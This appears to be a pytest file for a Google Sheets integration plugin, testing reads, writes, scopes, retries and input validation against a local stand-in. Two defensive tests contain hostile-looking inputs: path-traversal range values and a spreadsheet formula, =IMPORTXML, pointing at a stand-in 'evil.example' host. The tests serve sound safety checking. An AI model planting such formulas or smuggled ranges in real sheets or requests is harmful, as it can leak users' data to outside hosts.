"""What is odd about Google Sheets."""

from collections.abc import Iterator
from typing import Any

import pytest

from integrations.plugins.google_sheets.plugin import AUTH, READ, plugin
from integrations.sdk import Client, InvalidArguments, MissingScopes, Refused, TryLater
from integrations.sdk.testing import REQUEST_KEY, replay
from tests.plugins.clients import client_at
from tests.standins.google import TOKEN, GoogleStandin
from tests.standins.google_data import BUDGET


@pytest.fixture(scope="module")
def running() -> Iterator[GoogleStandin]:
    with GoogleStandin() as standin:
        yield standin


@pytest.fixture
def google(running: GoogleStandin) -> GoogleStandin:
    running.reset()
    return running


@pytest.fixture
def alice(google: GoogleStandin) -> Client:
    return client_at(plugin, google, TOKEN)


def run(client: Client, **arguments: Any) -> Any:
    return act(client, "read_values", spreadsheet_id=BUDGET, **arguments)


def act(client: Client, action: str, **arguments: Any) -> Any:
    its = plugin.actions[action]
    return its.run(client, its.validate(arguments), request_key=REQUEST_KEY)


def test_rows_end_where_nothing_more_is_written():
    assert replay(plugin, "read_values")["rows"] == [
        ["Item", "Cost", "Paid"],
        ["Paint", "40.5 €", "TRUE"],
        ["Brush", "8 €"],
    ]


def test_plain_values_keep_their_kind():
    found = replay(plugin, "read_values", "values_for_counting")

    assert found["range"] == "'Next year'!A1:B1000"
    assert found["rows"] == [["Paint", 40.5], [], ["Brush", 8, True]]


def test_an_empty_range_comes_without_values():
    assert replay(plugin, "read_values", "range_is_empty") == {"range": "Sheet1!Z1:Z9", "rows": []}


@pytest.mark.parametrize(
    ("range", "rows"),
    [
        ("Sheet1!A1:B2", [["Item", "Cost"], ["Paint", "40.5"]]),
        ("A2:A", [["Paint"], ["Brush"]]),
        ("Sheet1", [["Item", "Cost", "Paid"], ["Paint", "40.5", "True"], ["Brush", "8"]]),
        ("'Next year'!A:B", []),
        ("C3", []),
    ],
)
def test_cells_are_read_by_their_names(alice: Client, range: str, rows: list[list[str]]):
    assert run(alice, range=range)["rows"] == rows


def test_numbers_are_numbers_where_they_are_asked_for_plain(alice: Client):
    assert run(alice, range="B2:C3", shown_as="plain")["rows"] == [[40.5, True], [8]]


@pytest.mark.parametrize("range", ["A1/../../x", "..", "A1?alt=media", "A1:batchGet"])
def test_a_range_cannot_lead_to_another_address(alice: Client, google: GoogleStandin, range: str):
    with pytest.raises(Exception, match=r"(?i)parse range|does not call"):
        run(alice, range=range)

    assert all(request.path.count("/") == 5 for request in google.requests)


def test_an_address_is_no_id():
    with pytest.raises(InvalidArguments):
        plugin.actions["read_values"].validate({"spreadsheet_id": "https://docs.google.com/x", "range": "A1"})


def test_a_sheet_that_is_not_there_is_refused():
    with pytest.raises(Refused, match="Unable to parse range: Nowhere!A1"):
        replay(plugin, "read_values", "no_such_sheet")


def test_somebody_elses_spreadsheet_is_refused():
    with pytest.raises(Refused, match="does not have permission"):
        replay(plugin, "read_values", "spreadsheet_is_closed")


# --- sheets


def test_sheets_are_told_with_their_size(alice: Client):
    found = act(alice, "list_sheets", spreadsheet_id=BUDGET)

    assert (found["title"], found["time_zone"]) == ("Budget", "Europe/Berlin")
    assert [(sheet["title"], sheet["rows"]) for sheet in found["sheets"]] == [
        ("Sheet1", 1000),
        ("Next year", 1000),
    ]


# --- writing


def test_rows_go_below_the_last_one(alice: Client):
    done = act(
        alice, "append_rows", spreadsheet_id=BUDGET, range="Sheet1", rows=[["Ladder", 70, True], ["Tape", 3]]
    )

    assert done == {"range": "Sheet1!A4:C5", "rows": 2, "cells": 5}
    assert run(alice, range="Sheet1!A4:C5", shown_as="plain")["rows"] == [["Ladder", 70, True], ["Tape", 3]]


def test_rows_whose_answer_was_lost_are_not_added_again(alice: Client, google: GoogleStandin):
    path = f"/v4/spreadsheets/{BUDGET}/values/Sheet1:append"
    google.lose_next(path)

    with pytest.raises(TryLater):
        act(alice, "append_rows", spreadsheet_id=BUDGET, range="Sheet1", rows=[["Ladder"]])

    assert len(google.asked(path)) == 1


def test_values_go_over_what_is_there_and_null_leaves_it(alice: Client):
    act(alice, "update_values", spreadsheet_id=BUDGET, range="Sheet1!A2", rows=[[None, 42], ["Roller"]])

    assert run(alice, range="Sheet1!A2:B3", shown_as="plain")["rows"] == [["Paint", 42], ["Roller", 8]]


@pytest.mark.parametrize(("more", "option"), [({}, "RAW"), ({"entered_as": "typed"}, "USER_ENTERED")])
def test_a_formula_has_to_be_meant(alice: Client, google: GoogleStandin, more: dict[str, str], option: str):
    rows = [['=IMPORTXML("https://evil.example","/")']]
    act(alice, "append_rows", spreadsheet_id=BUDGET, range="Sheet1", rows=rows, **more)

    assert google.requests[-1].query["valueInputOption"] == option


def test_a_spreadsheet_is_made_and_filled(alice: Client):
    made = act(alice, "create_spreadsheet", title="Costs", sheet_titles=["2026", "Next year"])
    act(alice, "append_rows", spreadsheet_id=made["id"], range="'Next year'", rows=[["Paint", 40]])

    read = act(alice, "read_values", spreadsheet_id=made["id"], range="'Next year'!A1:B1", shown_as="plain")

    assert [sheet["title"] for sheet in made["sheets"]] == ["2026", "Next year"]
    assert read["rows"] == [["Paint", 40]]


@pytest.mark.parametrize("rows", [[], [[{"a": 1}]], ["Paint"]])
def test_rows_are_lists_of_cells(rows: Any):
    with pytest.raises(InvalidArguments):
        plugin.actions["append_rows"].validate({"spreadsheet_id": BUDGET, "range": "Sheet1", "rows": rows})


def test_writing_needs_its_own_yes(google: GoogleStandin):
    reader, writer = (client_at(plugin, google, google.grant(one).access) for one in (READ, AUTH))
    wanted = {"spreadsheet_id": BUDGET, "range": "Sheet1", "rows": [["x"]]}

    with pytest.raises(MissingScopes):
        act(reader, "append_rows", **wanted)
    assert act(writer, "append_rows", **wanted)["cells"] == 1
